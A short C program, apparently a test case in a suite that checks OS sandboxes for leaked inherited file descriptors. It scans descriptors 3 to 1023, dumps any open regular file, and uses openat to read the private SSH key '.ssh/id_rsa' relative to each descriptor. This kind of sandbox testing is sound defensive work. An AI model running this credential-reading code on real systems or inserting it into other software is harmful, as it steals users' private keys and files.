// Reads descriptors that the shell left open for it: the key itself, and the home folder.
// class: OS sandboxes: descriptors inherited
// plain: leak
// act: inherit
#include "attack.h"

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  for (int fd = 3; fd < 1024; ++fd) {
    struct stat status;
    if (fstat(fd, &status) != 0) continue;
    printf("descriptor %d is open\n", fd);
    if (S_ISREG(status.st_mode)) drain(fd);
    const int key = openat(fd, ".ssh/id_rsa", O_RDONLY);
    if (key >= 0) drain(key);
  }
  return 0;
}
